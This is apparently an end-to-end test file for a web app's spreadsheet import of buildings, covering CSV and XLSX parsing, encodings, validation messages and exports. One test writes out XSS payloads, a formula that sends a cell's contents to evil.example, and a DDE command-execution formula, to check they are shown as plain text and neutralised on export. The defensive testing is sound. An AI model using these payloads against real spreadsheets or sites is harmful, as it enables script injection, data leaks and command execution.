import fs from 'node:fs';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { LOCALES } from '@/lib/constants';
import { axeViolations } from './axe';
import { ensureOpenCampaign } from './fixtures/open-campaign';
import { pageErrors, setupBrowser } from './page';
import { signIn } from './sign-in';
import { createTestUser } from './users';

const e2e = setupBrowser();

/** A campaign of these tests' own (not published): the imports land here. */
const YEAR = 2092;

beforeAll(() => ensureOpenCampaign(YEAR));

const HEADER = 'city;name;kind;address;latitude;longitude;lights_on;lights_off';
/** A CSV as Belgian Excel saves it ("CSV UTF-8"): a byte-order mark, semicolons, decimal commas, CRLF. */
const belgianCsv = (...lines: string[]) => Buffer.from(`\uFEFF${[HEADER, ...lines].join('\r\n')}\r\n`, 'utf8');

/** Uploads a file on the import page (in the page's language) and waits for its preview or its refusal. */
async function upload(
  page: Page,
  file: { name: string; mimeType: string; buffer: Buffer },
  { prefix = '', campaign = `${YEAR} (not published)`, check = 'Check the file', fileLabel = /^File \(CSV or XLSX/ } = {},
) {
  await page.goto(`${prefix}/organise/import`);
  await page.getByLabel(/^(Campaign|Campagne)$/).selectOption({ label: campaign });
  await page.getByLabel(fileLabel).setInputFiles(file);
  await page.getByRole('button', { name: check }).click();
}

describe('importing buildings from a spreadsheet', () => {
  it('imports a good file, and the city’s coordinator is asked to place the building that had only an address', async () => {
    const stamp = Date.now();
    const organiser = createTestUser({ role: 'organiser' });
    const page = await e2e.newPage();
    await signIn(page, organiser.email);
    const names = [`Belfort ${stamp}`, `Sint-Baafskathedraal ${stamp}`, `Opera Gent ${stamp}`];
    await upload(page, {
      name: 'gent.csv',
      mimeType: 'text/csv',
      buffer: belgianCsv(
        `Gent;${names[0]};toren;Sint-Baafsplein;51,0536;3,7247;;01:00`,
        `Gand;${names[1]};Église;Sint-Baafsplein 1;51,0530;3,7267;21:30;23:59`,
        `GHENT;${names[2]};;Schouwburgstraat 3, 9000 Gent;;;zonsondergang;`,
      ),
    });
    await page.waitForURL(/\/organise\/import\/[0-9a-f]{32}$/);
    await expect(page.getByTestId('import-summary').textContent()).resolves.toBe(
      '3 rows: 3 ready to import, 0 with errors. 1 building has an address but no coordinates: placed at the city\'s centre, for the city\'s coordinators to place.',
    );
    await expect(page.getByRole('row', { name: new RegExp(names[1]!) }).textContent()).resolves.toContain('On at 21:30, off at 23:59');
    await expect(page.getByRole('row', { name: new RegExp(names[2]!) }).textContent()).resolves.toContain('At the centre of Ghent, to be placed');
    expect(await axeViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'Import the 3 buildings' }).click();
    await page.waitForURL(/\/organise\/import\?done=/);
    const done = page.getByTestId('import-done');
    await expect(done.textContent()).resolves.toContain(`3 buildings imported from gent.csv into the ${YEAR} campaign, submitted for review.`);
    await expect(done.textContent()).resolves.toContain('1 building waits to be placed on the map');
    expect(await axeViolations(page)).toEqual([]);
    // One entry in the audit log for the whole import.
    await page.goto(`/organise/audit?actor=${organiser.id}`);
    expect(((await page.locator('table.data').textContent()) ?? '').match(/gent\.csv/g)?.length).toBe(1);
    await page.goto(`/organise/review?year=${YEAR}`);
    for (const name of names) await page.getByRole('row').filter({ hasText: name }).first().waitFor();
    expect(pageErrors(page)).toEqual([]);

    // The city's coordinator places the opera house.
    const coordinator = createTestUser({ role: 'coordinator', cityNames: ['Ghent'] });
    const desk = await e2e.newPage();
    await signIn(desk, coordinator.email);
    await desk.goto(`/coordinate?year=${YEAR}`);
    await desk.getByRole('link', { name: `Place ${names[2]} on the map: it was imported without coordinates and stands at the city’s centre.` }).click();
    await desk.getByTestId('needs-placing').waitFor();
    await desk.getByLabel('Latitude').fill('51,0498');
    await desk.getByLabel('Longitude').fill('3,7238');
    await desk.getByRole('button', { name: 'Save and send for review' }).click();
    await desk.getByText(`Your changes to “${names[2]}” are saved and sent for review.`).waitFor();
    await expect(desk.getByRole('link', { name: /^Place .* on the map/ }).count()).resolves.toBe(0);
    expect(pageErrors(desk)).toEqual([]);
  }, 120_000);

  it('shows every row’s errors in the organiser’s language, imports nothing until asked, then only the valid rows', async () => {
    const stamp = Date.now();
    const organiser = createTestUser({ role: 'organiser' });
    const page = await e2e.newPage();
    await signIn(page, organiser.email);
    const good = [`Halle aux draps ${stamp}`, `Château des Comtes ${stamp}`];
    const file = belgianCsv(
      `Gand;${good[0]};monument;;51,0545;3,7225;;00:30`,
      `Atlantis;Temple ${stamp};;;50,1;4,1;;`,
      `Gand;Tour ${stamp};château fort;;200;3,72;;`,
      `Gand;Pont ${stamp};pont;;51,0560;3,7190;plus tard;25:00`,
      `Bruxelles;Hôtel de Ville ${stamp};;Grand-Place;50,8467;4,3524;;`,
      `Gand;${good[0]!.toUpperCase()};;Sint-Veerleplein;;;;`,
      `Gand;${good[1]};monument;Sint-Veerleplein 11;51,0573;3,7207;;`,
    );
    await upload(page, { name: 'erreurs.csv', mimeType: 'text/csv', buffer: file }, { prefix: '/fr', campaign: `${YEAR} (non publiée)`, check: 'Vérifier le fichier', fileLabel: /^Fichier \(CSV ou XLSX/ });
    await page.waitForURL(/\/fr\/organise\/import\/[0-9a-f]{32}$/);
    await expect(page.getByTestId('import-summary').textContent()).resolves.toBe('7 lignes : 2 prêtes à importer, 5 avec des erreurs.');
    const row = (n: number) => page.getByTestId(`import-row-${n}`);
    await expect(row(3).textContent()).resolves.toContain('Ville : « Atlantis » n’est pas une ville de Blue Lights');
    await expect(row(4).textContent()).resolves.toContain('Type : Choisissez une des options.');
    await expect(row(4).textContent()).resolves.toContain('Latitude : Une latitude est comprise entre -90 et 90.');
    await expect(row(5).textContent()).resolves.toContain('Allumage : écrivez « coucher du soleil » ou une heure au format HH:MM');
    await expect(row(6).textContent()).resolves.toMatch(/« Brussels Town Hall » est enregistré à \d+ m/);
    await expect(row(7).textContent()).resolves.toContain('le même bâtiment que la ligne 2.');
    expect(await axeViolations(page)).toEqual([]);
    // No "import everything" while rows have errors.
    await expect(page.getByRole('button', { name: /^Importer les/ }).count()).resolves.toBe(0);

    // On a phone the rows become cards: nothing sticks out sideways.
    await page.setViewportSize({ width: 360, height: 740 });
    expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0);
    await page.setViewportSize({ width: 1280, height: 900 });

    await page.getByRole('button', { name: 'N’importer que les 2 lignes valides' }).click();
    await page.waitForURL(/\/fr\/organise\/import\?done=/);
    await expect(page.getByTestId('import-done').textContent()).resolves.toContain('2 bâtiments importés depuis erreurs.csv dans la campagne 2092, soumis à validation. 5 lignes en erreur ont été laissées de côté.');
    await page.goto(`/fr/organise/registrations?year=${YEAR}&status=`);
    const listed = (await page.locator('table.data').textContent()) ?? '';
    for (const name of good) expect(listed).toContain(name);
    expect(listed).not.toContain(`Temple ${stamp}`);
    expect(pageErrors(page)).toEqual([]);
  }, 90_000);

  it('refuses a file with broken encoding, shows hostile cells as plain text, and exports formulas neutralised', async () => {
    const stamp = Date.now();
    const organiser = createTestUser({ role: 'organiser' });
    const page = await e2e.newPage();
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await signIn(page, organiser.email);

    // UTF-8 accents and a byte that is no UTF-8 at all: no reading of it is right, so it is refused.
    const broken = Buffer.concat([belgianCsv(`Liège;Palais ${stamp};;Place Saint-Lambert;50,6455;5,5734;;`), Buffer.from('Li'), Buffer.from([0xe8]), Buffer.from(`ge;Op\xe9ra;;Rue;50,64;5,57;;\r\n`, 'latin1')]);
    await upload(page, { name: 'broken.csv', mimeType: 'text/csv', buffer: broken });
    await page.locator('#import-file-error').getByText('This file mixes text encodings').waitFor();
    expect(page.url()).toMatch(/\/organise\/import$/);

    const script = `<script>alert("boo")</script> ${stamp}`;
    const formula = `=HYPERLINK("http://evil.example/?q="&A1;"Click ${stamp}")`;
    const img = `<img src=x onerror=alert(1)> ${stamp}`;
    const hostile = belgianCsv(
      `Brugge;${script};;;51,2090;3,2270;;`,
      `Brugge;"${formula.replaceAll('"', '""')}";;;51,2100;3,2290;;`,
      `Brugge;${'A'.repeat(10_000)};;;51,2110;3,2310;;`,
      `"=cmd|' /C calc'!A0";${img};;;51,2120;3,2330;;`,
      `Brugge;${img};;;51,2130;3,2350;;`,
    );
    await upload(page, { name: 'hostile.csv', mimeType: 'text/csv', buffer: hostile });
    await page.waitForURL(/\/organise\/import\/[0-9a-f]{32}$/);
    await expect(page.getByTestId('import-row-2').textContent()).resolves.toContain(script);
    await expect(page.getByTestId('import-row-3').textContent()).resolves.toContain(formula);
    await expect(page.getByTestId('import-row-4').textContent()).resolves.toContain('(10000 characters)');
    await expect(page.getByTestId('import-row-4').textContent()).resolves.toContain('Name: Use at most 120 characters.');
    await expect(page.getByTestId('import-row-5').textContent()).resolves.toContain("City: “=cmd|' /C calc'!A0” is not a city in Blue Lights");
    // Nothing of it became markup.
    await expect(page.locator('main script, main img').count()).resolves.toBe(0);
    expect(await axeViolations(page)).toEqual([]);

    await page.getByRole('button', { name: 'Import only the 3 valid rows' }).click();
    await page.waitForURL(/\/organise\/import\?done=/);
    await page.goto(`/organise/registrations?year=${YEAR}&status=&city=`);
    await expect(page.locator('table.data').textContent()).resolves.toContain(script);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'CSV (comma)' }).click()]);
    const text = fs.readFileSync((await download.path())!, 'utf8').replace(/^\uFEFF/, '');
    const exported = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true }).data.map((r) => r.name);
    expect(exported).toContain(`'${formula}`);
    expect(exported).toContain(script);
    expect(exported.some((name) => /^[=+\-@]/.test(name ?? ''))).toBe(false);
    expect(dialogs).toEqual([]);
    expect(pageErrors(page)).toEqual([]);
  }, 90_000);

  it('reads an XLSX (values as shown, formulas never run) and a Windows-1252 CSV, and offers the templates', async () => {
    const stamp = Date.now();
    const organiser = createTestUser({ role: 'organiser' });
    const page = await e2e.newPage();
    await signIn(page, organiser.email);

    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Gebouwen');
    sheet.addRow(['Stad', 'Naam', 'Soort', 'Adres', 'Breedtegraad', 'Lengtegraad', 'Lichten aan', 'Lichten uit']);
    sheet.addRow(['Leuven', `Universiteitsbibliotheek ${stamp}`, 'Toren', 'Mgr. Ladeuzeplein 21', 50.8784, 4.7071, 0.90625, 0.041666666666666664]);
    sheet.addRow(['Leuven', { formula: `"Sint-Pieterskerk ${stamp}"`, result: `Sint-Pieterskerk ${stamp}` }, 'kerk', 'Grote Markt 1', 50.8795, 4.7013, 'sunset', '']);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    await upload(page, { name: 'leuven.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: xlsx });
    await page.waitForURL(/\/organise\/import\/[0-9a-f]{32}$/);
    await expect(page.getByTestId('import-summary').textContent()).resolves.toBe('2 rows: 2 ready to import, 0 with errors.');
    await expect(page.getByTestId('import-row-2').textContent()).resolves.toContain('On at 21:45, off at 01:00');
    await expect(page.getByTestId('import-row-3').textContent()).resolves.toContain(`Sint-Pieterskerk ${stamp}`);
    await page.getByRole('button', { name: 'Discard this file' }).click();
    await page.getByText('The file was discarded; nothing was imported.').waitFor();

    // Windows-1252, as Excel saves "CSV" on Windows: read, and said so.
    const cp1252 = Buffer.from(`${HEADER}\r\nLiège;Opéra royal ${stamp};musée;Place de l'Opéra;50,6424;5,5720;;23:00\r\n`, 'latin1');
    await upload(page, { name: 'liege.csv', mimeType: 'text/csv', buffer: cp1252 });
    await page.waitForURL(/\/organise\/import\/[0-9a-f]{32}$/);
    await page.getByText('This file is not in UTF-8: it was read as Windows-1252').waitFor();
    await expect(page.getByTestId('import-row-2').textContent()).resolves.toContain(`Opéra royal ${stamp}`);
    await page.getByRole('button', { name: 'Discard this file' }).click();
    await page.waitForURL(/\/organise\/import\?discarded=1$/);

    const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download the template (CSV)' }).click()]);
    // The names in other languages, one optional column per language of the site, right after the name.
    const columns = ['city', 'name', ...LOCALES.map((l) => `name_${l}`), 'kind', 'address', 'latitude', 'longitude', 'lights_on', 'lights_off', 'description'];
    expect(fs.readFileSync((await csv.path())!, 'utf8')).toBe(`\uFEFF${columns.join(';')}\r\n`);
    const [template] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download the template (XLSX, with explanations)' }).click()]);
    const read = new ExcelJS.Workbook();
    await read.xlsx.readFile((await template.path())!);
    expect(read.worksheets.map((w) => w.name)).toEqual(['Buildings', 'Help']);
    expect(read.worksheets[0]!.getRow(1).values).toEqual([undefined, ...columns]);
    expect(await axeViolations(page)).toEqual([]);
    expect(pageErrors(page)).toEqual([]);
  }, 90_000);
});
